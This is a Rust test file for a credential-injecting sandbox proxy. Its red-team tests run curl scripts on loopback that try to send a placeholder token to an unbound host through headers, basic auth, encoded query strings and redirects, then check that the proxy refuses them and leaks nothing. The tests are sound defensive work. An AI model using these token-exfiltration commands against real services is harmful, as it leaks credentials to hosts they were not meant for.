//! Red team, issue #38: the run holds only a placeholder for a credential the
//! proxy injects; these attacks try to get the VALUE into the run's hands or to a
//! host, method or path it is not bound to, to get a request past the method/path
//! rules, or to reach the run's CA key. Each spawns the real binary against an
//! HTTPS origin on 127.0.0.1 (tests/cred_support/origin.py, which logs what it
//! receives) and checks that the attack failed for the right reason: the refusal
//! (403/400/429, its JSON body, a `denials` entry of the right kind), and the
//! origin's log (nothing forwarded, or only the placeholder). Every byte capsule
//! writes is searched for the value.
//!
//! Loopback only; TLS verified everywhere (the origin's CA is made here with
//! openssl and named by `network.upstream_ca`; the run trusts only its own CA
//! bundle, plus the origin's CA where it talks to a spliced host).

mod cred_support;

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use cred_support::*;
use serde_json::Value;

/// A curl line for `sh -c`: prints `CODE <status>` then the body.
fn curl(args: &str) -> String {
    format!("{CURL} -sS --max-time 20 -w '\\nCODE %{{http_code}}\\n' {args}; echo")
}

/// The statuses printed by [`curl`] lines, in order.
fn codes(out: &Out) -> Vec<u16> {
    out.child_stdout()
        .lines()
        .filter_map(|l| l.strip_prefix("CODE "))
        .map(|c| c.trim().parse().unwrap_or(0))
        .collect()
}

/// Bound to `localhost:PORT`; `127.0.0.1:PORT` a terminated map entry without
/// credential.
const TWO_TERMINATED: &str = r#"
version: 1
network:
  mode: proxy
  upstream_ca: {CA}
  allow_hosts:
    - host: localhost:{PORT}
      methods: [GET]
    - host: 127.0.0.1:{PORT}
credentials:
  - name: tok
    from: {env: MY_TOKEN}
    hosts: ["localhost:{PORT}"]
    placeholder_env: [MY_TOKEN]
"#;

/// The placeholder sent to another terminated host, in every position a client
/// could put it: each 403 with a JSON body naming the credential, a
/// credential_misuse denial each, and nothing reaches the origin.
#[test]
fn placeholder_to_other_terminated_host_is_misuse() {
    let o = Origin::start();
    let s = Scratch::new();
    let value = secret_value("misuse");
    let p = s.policy(o.port, TWO_TERMINATED);
    let other = format!("https://127.0.0.1:{}", o.port);
    let bound = format!("https://localhost:{}", o.port);
    let script = [
        curl(&format!("-H \"Authorization: Bearer $MY_TOKEN\" {other}/bearer")),
        curl(&format!("-u \"user:$MY_TOKEN\" {other}/basic")),
        curl(&format!("-H \"X-Api-Key: $MY_TOKEN\" {other}/custom")),
        curl(&format!("\"{other}/query?t=$MY_TOKEN\"")),
        // Percent-encoded, every byte.
        curl(&format!(
            "\"{other}/pct?t=$(printf %s \"$MY_TOKEN\" | od -An -tx1 | tr -d ' \\n' | sed 's/../%&/g')\""
        )),
        curl(&format!(
            "\"{other}/upper?t=$(printf %s \"$MY_TOKEN\" | tr a-z A-Z)\""
        )),
        // The bound origin redirects to the other host; curl follows and keeps
        // the custom header (it drops Authorization itself on a host change).
        curl(&format!(
            "-L -H \"X-Api-Key: $MY_TOKEN\" \"{bound}/redirect?to={other}/redirected\""
        )),
        // A redirect whose Location carries the placeholder (the origin got the
        // value there: it was substituted in the bound request's query).
        curl(&format!(
            "-L \"{bound}/redirect?to={other}/redirected2?t=$MY_TOKEN\""
        )),
    ]
    .join("; ");
    let out = exec(&s, &value, &p, &[], &["/bin/sh", "-c", &script]);
    assert_eq!(out.status, 0, "{}", out.describe());
    assert_eq!(codes(&out), vec![403; 8], "{}", out.describe());
    let stdout = out.child_stdout();
    assert!(stdout.contains("\"capsule\":\"refused\""), "{stdout}");
    assert!(stdout.contains("credentials[tok]"), "{stdout}");
    assert_eq!(
        out.count_denials("credential_misuse"),
        8,
        "{}",
        out.describe()
    );
    // Only the bound /redirect requests reached the origin (with the value, as
    // the binding says); nothing ever went to 127.0.0.1.
    for r in o.requests() {
        assert_eq!(
            r["path"].as_str().unwrap_or("").split('?').next(),
            Some("/redirect"),
            "{r}"
        );
        let host = Origin::header(&r, "host");
        assert_eq!(host, vec![format!("localhost:{}", o.port)], "{r}");
    }
    assert_eq!(o.requests().len(), 2, "{}", o.log_text());
    out.assert_clean(&value);
    assert!(!stdout.contains(&value));
}

/// Bound to `localhost:PORT`; `127.0.0.1` a plain string entry (CONNECT splice).
const SPLICED_OTHER: &str = r#"
version: 1
network:
  mode: proxy
  upstream_ca: {CA}
  allow_hosts:
    - host: localhost:{PORT}
    - 127.0.0.1
credentials:
  - name: tok
    from: {env: MY_TOKEN}
    hosts: ["localhost:{PORT}"]
    placeholder_env: [MY_TOKEN]
"#;

/// The placeholder through a splice: it arrives as the placeholder (it is not the
/// value), never the value, also after a redirect from the bound host.
#[test]
fn placeholder_to_spliced_host_arrives_as_placeholder() {
    let o = Origin::start();
    let s = Scratch::new();
    let value = secret_value("splice");
    let p = s.policy(o.port, SPLICED_OTHER);
    let ca = pki().ca.display().to_string();
    let dir = pki().dir.display().to_string();
    let other = format!("https://127.0.0.1:{}", o.port);
    let bound = format!("https://localhost:{}", o.port);
    // The spliced host's certificate is the origin's: curl trusts the run's
    // bundle and the origin's CA (--cacert replaces the bundle: give both).
    let both = "cat \"$SSL_CERT_FILE\" ca.pem > /tmp/both.pem";
    let script = format!(
        "cd {dir} && {both}; {}; {}; {}",
        curl(&format!(
            "--cacert /tmp/both.pem -H \"Authorization: Bearer $MY_TOKEN\" -H \"X-Api-Key: $MY_TOKEN\" \"{other}/spliced?t=$MY_TOKEN\""
        )),
        curl(&format!(
            "--cacert /tmp/both.pem -L -H \"X-Api-Key: $MY_TOKEN\" \"{bound}/redirect?to={other}/after-redirect\""
        )),
        curl(&format!("--cacert /tmp/both.pem -u \"u:$MY_TOKEN\" {other}/basic")),
    );
    let out = exec(
        &s,
        &value,
        &p,
        &["--allow-read", &dir],
        &["/bin/sh", "-c", &script],
    );
    assert_eq!(out.status, 0, "{}", out.describe());
    assert_eq!(codes(&out), vec![200, 200, 200], "{}", out.describe());
    let ph = placeholder_of(&out);
    for path in ["/spliced", "/after-redirect", "/basic"] {
        let rs = o.requests_to(path);
        assert_eq!(rs.len(), 1, "{path}: {}", o.log_text());
        let text = rs[0].to_string();
        assert!(
            !text.contains(&value),
            "the value went through the splice: {text}"
        );
        if path == "/basic" {
            let want = format!("Basic {}", STANDARD.encode(format!("u:{ph}")));
            assert_eq!(
                Origin::header(&rs[0], "authorization"),
                vec![want],
                "{text}"
            );
        } else {
            assert!(
                text.contains(&ph),
                "{path}: the placeholder should arrive as is: {text}"
            );
        }
    }
    assert_eq!(
        out.count_denials("credential_misuse"),
        0,
        "{}",
        out.describe()
    );
    out.assert_clean(&value);
}

/// The run's placeholder, found in the result (the run printed it): the one
/// `capsule-phantom-` word of the child's stdout.
fn placeholder_of(out: &Out) -> String {
    let s = out.child_stdout();
    let i = s
        .find("capsule-phantom-")
        .expect("a placeholder in the run's output");
    s[i..i + "capsule-phantom-".len() + 32].to_string()
}
